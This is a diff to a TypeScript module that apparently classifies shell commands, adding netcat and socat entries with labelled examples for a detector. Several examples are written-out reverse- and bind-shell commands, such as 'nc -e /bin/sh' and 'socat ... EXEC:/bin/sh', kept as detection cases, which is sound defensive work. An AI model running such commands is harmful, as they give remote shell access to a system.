@@ -17,7 +17,7 @@ import { has, parseArgs, type OptionSpec } from "../programs/options.js";
 import { interpreterOf, programSource } from "../programs/interpreters.js";
 import { classifyUrl } from "../urls.js";
 import { attrs, targetText, type Ctx, type SharedState } from "./common.js";
-import type { Handler } from "./entries.js";
+import { entry, handlerTable, type Handler, type ProgramEntry } from "./entries.js";
 import { stdinClasses } from "./flow.js";
 
 /** `/dev/tcp/HOST/PORT`, `/dev/udp/HOST/PORT`: bash opens a socket, not a file. */
@@ -144,4 +144,16 @@ export function shellSockets(ctx: Ctx): void {
   }
 }
 
-export const REVERSE_SHELL_HANDLERS: Record<string, Handler> = { ...Object.fromEntries(NETCATS.map((n) => [n, netcat])), socat };
+/** netcat and socat joining a socket to a program; a plain connection or listener runs nothing. */
+export const REVERSE_SHELL_PROGRAMS: readonly ProgramEntry[] = [
+  entry(NETCATS, netcat, [
+    ["nc -e /bin/sh 10.0.0.1 4444", "execute remote_code"],
+    ["ncat --exec /bin/bash 10.0.0.1 4444", "execute remote_code"],
+    ["nc -lvp 4444 -e /bin/bash", "execute remote_code"],
+    ["nc example.com 80", ""],
+    ["nc -l 8080", ""],
+  ]),
+  entry(["socat"], socat, [["socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "execute remote_code"], ["socat TCP-LISTEN:4444 SYSTEM:sh", "execute remote_code"], ["socat - TCP:example.com:80", ""]]),
+];
+
+export const REVERSE_SHELL_HANDLERS: Record<string, Handler> = handlerTable(REVERSE_SHELL_PROGRAMS);
